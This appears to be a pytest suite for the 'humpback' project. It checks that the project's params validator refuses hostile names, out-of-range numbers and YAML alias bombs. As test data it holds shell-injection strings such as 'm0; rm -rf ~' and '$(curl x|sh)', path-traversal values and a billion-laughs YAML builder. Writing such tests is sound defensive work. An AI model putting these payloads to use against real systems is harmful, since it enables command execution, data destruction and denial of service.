"""Hostile and careless params: names that would become shell words or paths, out-of-range numbers,
and YAML that expands without bound.

Every case ends in a named one-line error: `humpback check-params` prints one `error:` line per
problem of the file and exits 2; a stage script reading its section exits 2 with exactly one
`error:` line (the first problem, and how many more there are). Under `dvc repro` the params stage
refuses the file before any stage whose command holds the name runs.
"""

from __future__ import annotations

import dataclasses
import re
import subprocess
import sys
import typing
from pathlib import Path

import dvc_stage
import pytest
import reliability_plugin as ledger

from humpback.cli import main as cli
from humpback.config import SECTIONS, Iteration, inside, load_section, section_class, validate_all
from humpback.errors import ConfigError

pytest_plugins = ["reliability_plugin"]

ROOT = Path(__file__).resolve().parents[1]
ITS = "iterations:\n  it1: {prev: m0}\n"


def check_params(tmp_path: Path, text: str | bytes, capsys) -> list[str]:
    """`humpback check-params` on a params file holding `text`: its `error:` lines (exit status 2)."""
    path = tmp_path / "params.yaml"
    path.write_bytes(text if isinstance(text, bytes) else text.encode())
    capsys.readouterr()
    with pytest.raises(SystemExit) as e:
        cli(["check-params", str(path)])
    out = capsys.readouterr()
    assert e.value.code == 2, out
    assert "Traceback" not in out.err
    lines = out.err.strip().splitlines()
    assert lines and all(line.startswith("error: ") for line in lines), out.err
    assert all(len(line) < 600 for line in lines), "a message quotes more than an excerpt"
    return [line.replace(str(tmp_path) + "/", "") for line in lines]


def one_error(tmp_path, text, capsys, *needles) -> str:
    lines = check_params(tmp_path, text, capsys)
    assert len(lines) == 1, lines
    for needle in needles:
        assert needle in lines[0], f"{needle!r} not in {lines[0]!r}"
    return lines[0]


# --------------------------------------------------------------------------------------------- names

NAMES = [
    # (case, params text, words the one error line must hold)
    ("iteration name with ;", ITS + '  "it2;touch pwned": {prev: it1}\n', ["'it2;touch pwned'", "not a safe iteration name"]),
    ("iteration name with $(touch pwned)", ITS + '  "$(touch pwned)": {prev: it1}\n', ["'$(touch pwned)'", "iteration name"]),
    ("iteration name with backquotes", ITS + '  "`touch pwned`": {prev: it1}\n', ["'`touch pwned`'", "iteration name"]),
    ("iteration name with a space", ITS + '  "it 2": {prev: it1}\n', ["'it 2'", "not a safe iteration name"]),
    ("iteration name with ../", ITS + '  "../../victim": {prev: it1}\n', ["'../../victim'", "iteration name"]),
    ("iteration name with a quote", ITS + "  \"it2'\": {prev: it1}\n", ["iteration name"]),
    ("iteration name with a newline", ITS + '  "it2\\nrm -rf x": {prev: it1}\n', ["'it2\\nrm -rf x'", "iteration name"]),
    ("iteration name starting with -", ITS + '  "-rf": {prev: it1}\n', ["'-rf'", "iteration name"]),
    ("iteration name of 65 characters", ITS + f"  {'i' * 65}: {{prev: it1}}\n", ["iteration name", "1-64 characters"]),
    ("iteration name with a dot (dvc params key)", ITS + "  it.2: {prev: it1}\n", ["'it.2'", "iteration name"]),
    ("iteration named m0 (another stage's model)", "iterations:\n  m0: {prev: it1}\n  it1: {prev: m0}\n",
     ["iterations.m0:", "models/m0 of another stage"]),
    ("iterations differing only in case", ITS + "  IT1: {prev: it1}\n", ["iterations.IT1", "differ only in case"]),
    ("prev with ;", 'iterations:\n  it1: {prev: "m0; rm -rf ~"}\n', ["iterations.it1.prev", "'m0; rm -rf ~'", "not a safe"]),
    ("eval.models entry ../../x", "eval:\n  models: [base, ../../x]\n", ["eval.models[1]", "'../../x'", "not a safe model name"]),
    ("eval.models entry with ;", 'eval:\n  models: [base, "m0;id"]\n', ["eval.models[1]", "'m0;id'"]),
    ("eval.models entry with $()", 'eval:\n  models: ["$(id)"]\n', ["eval.models[0]", "'$(id)'"]),
    ("eval.models entry twice", "eval:\n  models: [base, m0, base]\n", ["eval.models[2]", "listed twice"]),
    ("eval.models empty", "eval:\n  models: []\n", ["eval.models", "empty"]),
    ("judge.model ../base", "judge:\n  model: ../base\n", ["judge.model", "'../base'", "not a safe model name"]),
    ("judge.model with a space", "judge:\n  model: it 1\n", ["judge.model", "'it 1'"]),
    ("judge.reference with a space", "judge:\n  reference: my answers.json\n", ["judge.reference", "not a safe path"]),
    ("judge.reference with $()", 'judge:\n  reference: "$(curl x|sh).json"\n', ["judge.reference", "not a safe path"]),
    ("eval.prompts starting with -", "eval:\n  prompts: --out=/etc/x\n", ["eval.prompts", "not starting with -"]),
    ("eval.prompts with a quote", "eval:\n  prompts: \"p'.jsonl\"\n", ["eval.prompts", "not a safe path"]),
    ("seed source path with a newline", 'seed:\n  sources:\n    - {path: "a\\nb.jsonl"}\n',
     ["seed.sources[0].path", "control character"]),
    ("seed source path empty", 'seed:\n  sources:\n    - {path: ""}\n', ["seed.sources[0].path", "empty"]),
    ("corpus source path with a NUL byte", 'corpus:\n  sources:\n    - {kind: html, path: "site\\0x"}\n',
     ["corpus.sources[0].path", "control character"]),
    ("base_model.source with a newline", 'base_model:\n  source: "org/m\\nx"\n', ["base_model.source", "control character"]),
    ("base_model.source neither path nor hub id", "base_model:\n  source: org/my model\n",
     ["base_model.source", "neither embedded, tiny, an existing path nor a hub id"]),
    ("base_model.source hub id with ..", "base_model:\n  source: org/..x\n", ["base_model.source", "hub id"]),
    ("eval.curation_labels with a tab", 'eval:\n  curation_labels: "labels\\t.jsonl"\n', ["eval.curation_labels", "control"]),
    ("api_key_env with =", 'judge:\n  api_key_env: "KEY=x"\n', ["judge.api_key_env", "not an environment variable name"]),
    ("unknown section named with a newline", '"sed\\ne": {}\n', ["unknown section(s) 'sed\\ne'"]),
]


@pytest.mark.parametrize("case, text, needles", NAMES, ids=[c[0] for c in NAMES])
def test_an_unsafe_name_is_one_named_error(tmp_path, capsys, case, text, needles):
    line = one_error(tmp_path, text, capsys, "params.yaml", *needles)
    ledger.hostile("names", case, f"check-params exit 2, {line}")


# What command_word_problems checks: each `${...}` dvc.yaml interpolates (foreach keys and items of
# `iterations` and `eval.models`, and the values named here). A new interpolation must be added there.
CHECKED = {"iterations", "key", "item.prev", "eval.models", "item", "eval.prompts", "judge.model", "judge.reference"}


def test_every_value_dvc_yaml_interpolates_is_checked():
    used = set(re.findall(r"\$\{([^}]+)\}", (ROOT / "dvc.yaml").read_text()))
    assert used and used <= CHECKED, used - CHECKED


ACCEPTED = [
    # read-only inputs may lie outside the repository; plain names keep working
    "judge:\n  reference: /srv/alpaca_eval/davinci_003.json\n",
    "judge:\n  reference: ../shared/reference+v2.json\n",
    "eval:\n  prompts: ./data/eval/prompts.jsonl\n  models: [base, m0, it_1, round-2, llama-2.7b]\n",
    "base_model:\n  source: huggyllama/llama-7b\n",
    "corpus:\n  sources:\n    - {kind: warc, path: /srv/crawl dumps/cc-2024}\n",  # read, never on a command line
    "seed:\n  sources:\n    - {path: ~/my seed/pairs.jsonl}\n",
    "iterations:\n  it1: {prev: m0}\n  round_2: {prev: it1}\n  Round-3: {prev: round_2}\n",
]


@pytest.mark.parametrize("text", ACCEPTED)
def test_safe_names_and_outside_inputs_keep_working(tmp_path, text):
    path = tmp_path / "params.yaml"
    path.write_text(text)
    validate_all(path)


def test_every_reader_refuses_an_unsafe_name_whatever_section_it_reads(tmp_path):
    """A stage that reads no `iterations` (seed, score@) still refuses a file whose iteration name
    dvc.yaml would put on its command line."""
    path = tmp_path / "params.yaml"
    path.write_text(ITS + '  "it2;touch pwned": {prev: it1}\n')
    for name in SECTIONS:
        with pytest.raises(ConfigError, match="not a safe iteration name"):
            load_section(name, path)


def test_inside_keeps_output_paths_in_the_repository(tmp_path):
    assert inside(tmp_path, "models", "it1") == tmp_path / "models" / "it1"
    (tmp_path / "models").mkdir()
    (tmp_path / "models" / "link").symlink_to(tmp_path.parent)
    for parts in (("models", "../../x"), ("/etc/passwd",), ("models", "a\nb"), ("models", "link", "x")):
        with pytest.raises(ConfigError, match="must stay inside"):
            inside(tmp_path, *parts)


def test_the_report_writes_no_file_outside_its_plots_directory(tmp_path):
    from humpback.evaluation.report import ReportData, write_plot_data

    plots = tmp_path / "repo" / "metrics" / "plots"
    data = ReportData(histograms={"it1": {"5": 1}, "../../../escaped": {"5": 1}})
    with pytest.raises(ConfigError, match="must stay inside"):
        write_plot_data(data, plots)
    assert (plots / "curation" / "it1.json").is_file()
    assert [p for p in tmp_path.rglob("escaped*")] == []
    ledger.hostile("names", "report histogram for an iteration named ../../../escaped",
                   "ConfigError: an output path must stay inside the plots directory; nothing written outside")


# Every stage script, run as dvc.yaml runs it (foreach stages at a valid key), under a params file
# with one hostile iteration name: each refuses with one line before it writes anything.
STAGES = [("params", None), ("base_model", None), ("seed", None), ("corpus", None), ("train_backward", None),
          ("train_m0", None), ("augment", None), ("score", "it1"), ("select", "it1"), ("train", "it1"),
          ("generate", "base"), ("judge", "base"), ("heldout", "base"), ("heldout_backward", "backward"),
          ("length_controlled", None), ("judge_check", None),
          ("paired", None), ("report", None), ("export", None)]
NO_PARAMS = {"cost"}  # merges the stages' compute entries; reads no params


def _dvc_stages() -> dict:
    from ruamel.yaml import YAML

    return YAML(typ="safe").load((ROOT / "dvc.yaml").read_text())["stages"]


def test_the_stage_list_is_every_stage_of_dvc_yaml():
    stages = _dvc_stages()
    assert {s for s, _ in STAGES} | NO_PARAMS == set(stages)
    scripts = {Path(p).stem for p in (ROOT / "stages").glob("*.py")} - {"__init__"}
    assert scripts == {Path(dvc_stage.command(s, k)[1]).stem for s, k in STAGES} | NO_PARAMS
    for name in NO_PARAMS:  # a stage that reads no params file has no iteration name to refuse
        assert "--params" not in stages[name]["cmd"] and "params" not in stages[name]


def _no_tmp(line: str) -> str:
    """The error line with the injected command's scratch path left out (stable in the ledger)."""
    return re.sub(r"'it2;touch [^']*'", "'it2;touch <outside>/pwned'", line)


def test_every_stage_script_refuses_a_hostile_iteration_name(tmp_path, monkeypatch, capsys):
    outside = tmp_path / "outside"
    ws = tmp_path / "ws"
    outside.mkdir()
    ws.mkdir()
    (ws / "params.yaml").write_text(f'{ITS}  "it2;touch {outside}/pwned": {{prev: it1}}\n')
    monkeypatch.chdir(ws)
    for stage, key in STAGES:
        capsys.readouterr()
        with pytest.raises(SystemExit) as e:
            dvc_stage.run(stage, key)
        err = capsys.readouterr().err
        errors = [line for line in err.splitlines() if line.startswith("error:")]
        assert e.value.code == 2 and len(errors) == 1 and "Traceback" not in err, (stage, err)
        assert "not a safe iteration name" in errors[0], errors
        assert sorted(p.name for p in ws.iterdir()) == ["params.yaml"], f"{stage} wrote before refusing"
    assert not list(outside.iterdir())
    ledger.hostile("names", f"iteration name with ; under each of the {len(STAGES)} stage scripts",
                   f"exit 2 in every one, {_no_tmp(errors[0])}")


def files(root: Path) -> set[str]:
    """The project's files, DVC's and git's own state aside."""
    return {str(p.relative_to(root)) for p in root.rglob("*")
            if p.is_file() and p.relative_to(root).parts[0] not in (".dvc", ".git")}


def test_dvc_repro_refuses_a_hostile_name_before_any_stage_runs(tmp_path):
    """End to end, in a scratch copy: the params stage refuses the file and DVC stops, so neither
    injected command runs and nothing appears outside the copy."""
    outside = tmp_path / "outside"
    outside.mkdir()
    ws = tmp_path / "ws"
    ws.mkdir()
    dvc_stage.bench_pipeline().copy_project(ws)
    params = ws / "params.yaml"
    text = params.read_text()
    for old, new in (("  it2: {prev: it1}", f'  "it2;touch {outside}/pwned": {{prev: it1}}'),
                     ("  models: [base, m0, it1, it2]", f'  models: [base, m0, it1, "$(touch {outside}/pwned2)"]')):
        assert text.count(old) == 1, old
        text = text.replace(old, new)
    params.write_text(text)
    before = files(ws)
    proc = subprocess.run(["dvc", "repro"], cwd=ws, capture_output=True, text=True, timeout=300)
    assert proc.returncode != 0
    assert "Running stage 'params'" in proc.stdout
    ran = [line for line in proc.stdout.splitlines() if line.startswith("Running stage") and "'params'" not in line]
    assert ran == [], ran
    errors = [line for line in proc.stderr.splitlines() if line.startswith("error: ")]
    assert len(errors) == 1 and "not a safe iteration name" in errors[0] and "and 1 more problem" in errors[0], proc.stderr
    # nothing made, nothing cleared, but for the params stage's own outputs, which DVC clears before it runs
    own = {next(iter(o)) if isinstance(o, dict) else o for o in _dvc_stages()["params"]["outs"]}
    assert not list(outside.iterdir()) and files(ws) - own == before - own
    ledger.hostile("names", "dvc repro with an iteration name with ; and an eval model with $()",
                   f"params stage exit 2, no stage ran, nothing created: {_no_tmp(errors[0])}")


# --------------------------------------------------------------------------------------------- ranges

RANGES = [
    ("MinHash threshold 1.5", "corpus:\n  minhash_threshold: 1.5\n", "corpus.minhash_threshold: 1.5 is out of range (must be > 0 and <= 1)"),
    ("MinHash threshold 0", "corpus:\n  minhash_threshold: 0\n", "corpus.minhash_threshold: 0 is out of range"),
    ("MinHash threshold 0.99 with 64 permutations", "corpus:\n  minhash_threshold: 0.99\n",
     "corpus.minhash_threshold: 0.99 is too close to 1 for minhash_num_perm 64"),
    ("shingle size 0", "corpus:\n  shingle_size: 0\n", "corpus.shingle_size: 0 is out of range (must be >= 1 and <= 8)"),
    ("shingle size 9", "corpus:\n  shingle_size: 9\n", "corpus.shingle_size: 9 is out of range"),
    ("num_perm 0", "corpus:\n  minhash_num_perm: 0\n", "corpus.minhash_num_perm: 0 is out of range (must be >= 2"),
    ("corpus seed -1", "corpus:\n  seed: -1\n", "corpus.seed: -1 is out of range (must be >= 0 and <= 4294967295)"),
    ("seed 2^32", "seed:\n  seed: 4294967296\n", "seed.seed: 4294967296 is out of range"),
    ("augment chunk_size 0", "augment:\n  chunk_size: 0\n", "augment.chunk_size: 0 is out of range (must be >= 1)"),
    ("score chunk_size -3", "score:\n  chunk_size: -3\n", "score.chunk_size: -3 is out of range (must be >= 1)"),
    ("corpus batch_size 0", "corpus:\n  batch_size: 0\n", "corpus.batch_size: 0 is out of range"),
    ("endpoint timeout -1", "engine:\n  openai: {timeout: -1}\n", "engine.openai.timeout: -1 is out of range (must be > 0)"),
    ("endpoint retries -1", "engine:\n  openai: {max_retries: -1}\n", "engine.openai.max_retries: -1 is out of range (must be >= 0)"),
    ("negative seed example cap", "seed:\n  max_examples: -5\n", "seed.max_examples: -5 is out of range (must be >= 0)"),
    ("negative per-source example cap", "seed:\n  sources:\n    - {path: data/seed/seed.jsonl, max_examples: -1}\n",
     "seed.sources[0].max_examples: -1 is out of range"),
    ("negative select cap", "select:\n  max_examples: -1\n", "select.max_examples: -1 is out of range"),
    ("max_new_tokens 0", "augment:\n  sampling: {max_new_tokens: 0}\n", "augment.sampling.max_new_tokens: 0 is out of range"),
    ("temperature -0.5", "eval:\n  sampling: {temperature: -0.5}\n", "eval.sampling.temperature: -0.5 is out of range"),
    ("top_p 1.5", "score:\n  sampling: {top_p: 1.5}\n", "score.sampling.top_p: 1.5 is out of range (must be > 0 and <= 1)"),
    ("learning rate 0", "train:\n  learning_rate: 0\n", "train.learning_rate: 0 is out of range (must be > 0)"),
    ("epochs 0", "train:\n  epochs: 0\n", "train.epochs: 0 is out of range (must be > 0)"),
    ("LoRA rank 0", "train:\n  lora: {r: 0}\n", "train.lora.r: 0 is out of range"),
    ("GPU memory share 1.5", "engine:\n  vllm: {gpu_memory_utilization: 1.5}\n", "engine.vllm.gpu_memory_utilization: 1.5"),
    ("header capitals share 2", "corpus:\n  max_header_caps: 2\n", "corpus.max_header_caps: 2 is out of range"),
    ("curation label threshold 6", "eval:\n  curation_label_threshold: 6\n", "eval.curation_label_threshold: 6 is out of range"),
    ("judge max_new_tokens 0", "judge:\n  max_new_tokens: 0\n", "judge.max_new_tokens: 0 is out of range"),
    ("tiny model hidden size 0", "base_model:\n  source: tiny\n  tiny: {hidden_size: 0}\n", "base_model.tiny.hidden_size: 0"),
    ("per-iteration threshold 6", ITS + "  it2: {prev: it1, select: {threshold: 6}}\n",
     "iterations.it2.select.threshold: 6 is out of range (must be >= 0 and <= 5)"),
    # rules that tie fields together
    ("corpus min_chars above max_chars", "corpus:\n  min_chars: 500\n  max_chars: 100\n",
     "corpus.max_chars: 100 is less than min_chars (500)"),
    ("seed min_chars above max_chars", "seed:\n  min_chars: 50\n  max_chars: 10\n", "seed.max_chars: 10 is less than min_chars (50)"),
    ("instruction filter min_words above max_words", "augment:\n  filter: {min_words: 10, max_words: 5}\n",
     "augment.filter.max_words: 5 is less than min_words (10)"),
    ("select sample above max_examples", "select:\n  max_examples: 5\n  sample: 10\n", "select.sample: 10 is more than max_examples (5)"),
    ("tiny model heads that do not split the hidden size", "base_model:\n  source: tiny\n  tiny: {num_attention_heads: 3}\n",
     "base_model.tiny.num_attention_heads: 3 heads must split hidden_size 64"),
    ("no seed source", "seed:\n  sources: []\n", "seed.sources: empty"),
    # numbers YAML reads but no stage could use
    ("an integer of 5000 digits", "corpus:\n  seed: " + "9" * 5000 + "\n", "not valid YAML: an integer of more than 4300 digits"),
    ("an integer beyond any float", "train:\n  learning_rate: " + "9" * 400 + "\n", "train.learning_rate: "),
    ("infinite timeout", "engine:\n  openai: {timeout: .inf}\n", "engine.openai.timeout: expected a finite number"),
]


@pytest.mark.parametrize("case, text, message", RANGES, ids=[c[0] for c in RANGES])
def test_an_out_of_range_param_is_one_named_error(tmp_path, capsys, case, text, message):
    line = one_error(tmp_path, text, capsys, "params.yaml", message)
    ledger.hostile("ranges", case, f"check-params exit 2, {line}")


def test_the_shipped_presets_pass():
    for path in [ROOT / "params.yaml", *sorted((ROOT / "configs").glob("*.yaml")), *sorted((ROOT / "tests").glob("*.yaml"))]:
        validate_all(path)


def _dataclasses() -> dict[str, type]:
    """Every dataclass a params section is built from, nested ones included."""
    found: dict[str, type] = {}

    def walk(tp, where):
        if tp in found.values():
            return
        found[where] = tp
        for f in dataclasses.fields(tp):
            hint = typing.get_type_hints(tp)[f.name]
            for arm in [hint, *typing.get_args(hint), *(a for h in typing.get_args(hint) for a in typing.get_args(h))]:
                if dataclasses.is_dataclass(arm):
                    walk(arm, f"{where}.{f.name}")

    for name in SECTIONS:
        if dataclasses.is_dataclass(section_class(name)):
            walk(section_class(name), name)
    walk(Iteration, "iterations.<it>")
    return found


def test_every_numeric_param_has_a_range():
    missing = []
    classes = _dataclasses()
    for where, tp in classes.items():
        hints = typing.get_type_hints(tp)
        for f in dataclasses.fields(tp):
            numeric = {int, float} & {hints[f.name], *typing.get_args(hints[f.name])}
            if numeric and not (f.metadata.get("range") or f.metadata.get("one_of")):
                missing.append(f"{where}.{f.name}")
    assert len(classes) >= 20 and missing == []


MANY = """\
iterations:
  it1: {prev: m0}
  "it2;touch pwned": {prev: it1}
  it3: {prev: it1, select: {top_share: 2}}
corpus:
  minhash_threshold: 1.5
  shingle_size: 0
  min_chars: 500
  max_chars: 100
seed:
  seed: -1
  max_examples: -5
eval:
  models: [base, ../../x]
  chunk_size: 0
judge:
  reference: "a b.json"
engine:
  openai: {timeout: -1, max_retries: -1}
select:
  threshold: 9
train:
  learning_rate: 0
  lora: {r: 0, dropout: 1.0}
sede: {}
"""
MANY_EXPECTED = [
    "unknown section(s) sede", "iterations: 'it2;touch pwned'", "eval.models[1]: '../../x'", "judge.reference: 'a b.json'",
    "iterations.it3.select.top_share: 2", "corpus.minhash_threshold: 1.5", "corpus.shingle_size: 0",
    "corpus.max_chars: 100 is less than min_chars (500)", "seed.seed: -1", "seed.max_examples: -5",
    "eval.chunk_size: 0", "engine.openai.timeout: -1", "engine.openai.max_retries: -1", "select.threshold: 9",
    "train.learning_rate: 0", "train.lora.r: 0", "train.lora.dropout: 1",
]


def test_check_params_reports_every_problem_of_the_file(tmp_path, capsys, monkeypatch):
    lines = check_params(tmp_path, MANY, capsys)
    assert len(lines) == len(MANY_EXPECTED), lines
    for needle in MANY_EXPECTED:
        assert sum(needle in line for line in lines) == 1, (needle, lines)
    ledger.hostile("ranges", f"one file with {len(MANY_EXPECTED)} problems (names, ranges, rules, an unknown section)",
                   f"check-params exit 2, {len(lines)} error lines, one per problem")
    # a stage reading that file says it in one line, with the count of the rest
    monkeypatch.chdir(tmp_path)
    capsys.readouterr()
    with pytest.raises(SystemExit) as e:
        dvc_stage.run("select", "it1")
    errors = [line for line in capsys.readouterr().err.splitlines() if line.startswith("error:")]
    assert e.value.code == 2 and len(errors) == 1
    assert "more problems: `humpback check-params params.yaml` lists them" in errors[0], errors
    ledger.hostile("ranges", "a stage reading that file", f"exit 2, {errors[0]}")


# --------------------------------------------------------------------------------------------- bombs


def _alias_bomb(levels: int = 9) -> str:
    """A "billion laughs": each anchor lists the previous one nine times (9^9 values from ~500 bytes)."""
    lines, prev = ["eval:", "  prompts:", "    - &a [x, x, x, x, x, x, x, x, x]"], "a"
    for name in "bcdefghijklmnop"[: levels - 1]:
        lines.append(f"    - &{name} [{', '.join([f'*{prev}'] * 9)}]")
        prev = name
    return "\n".join(lines) + "\n"


def test_a_yaml_alias_bomb_is_refused_at_once(tmp_path):
    path = tmp_path / "params.yaml"
    path.write_text(_alias_bomb())
    assert len(path.read_bytes()) < 600
    proc = subprocess.run([sys.executable, "-m", "humpback.cli", "check-params", str(path)],
                          capture_output=True, text=True, timeout=30)
    lines = proc.stderr.strip().splitlines()
    assert proc.returncode == 2 and len(lines) == 1 and "Traceback" not in proc.stderr, proc.stderr[-2000:]
    assert "YAML aliases expand it to more than 100,000 values" in lines[0]
    ledger.hostile("bombs", f"YAML alias bomb in params.yaml ({len(path.read_bytes())} bytes, 9 levels of 9)",
                   f"check-params exit 2, {lines[0].replace(str(tmp_path) + '/', '')}")
    with pytest.raises(ConfigError, match="alias bomb"):
        load_section("seed", path)  # a stage reading any section refuses it the same way


@pytest.mark.parametrize("case, text, needle", [
    ("an alias inside its own anchor", "seed:\n  lang: &a [*a]\n", "an alias refers to its own anchor"),
    ("a 200 kB value of the wrong type", "seed:\n  lang: [" + "x" * 200_000 + "]\n", "seed.lang: expected a string, got ['xxx"),
    ("a mapping of 3,000 unknown keys", "seed:\n" + "".join(f"  k{i}: 1\n" for i in range(3_000)),
     "seed: unknown key(s) k0, k1, k10, k100, k1000, k1001, k1002, k1003, k1004, k1005 and 2990 more"),
])
def test_big_or_recursive_yaml_gets_a_short_message(tmp_path, capsys, case, text, needle):
    line = one_error(tmp_path, text, capsys, needle)
    assert len(line) < 400
    ledger.hostile("bombs", f"params.yaml: {case}", f"check-params exit 2, {line[:200]}")


def test_small_aliases_still_work(tmp_path):
    path = tmp_path / "params.yaml"
    path.write_text("select: &sel {threshold: 4.0}\niterations:\n  it1: {prev: m0}\n  it2: {prev: it1, select: *sel}\n")
    assert load_section("select", path, iteration="it2").threshold == 4.0
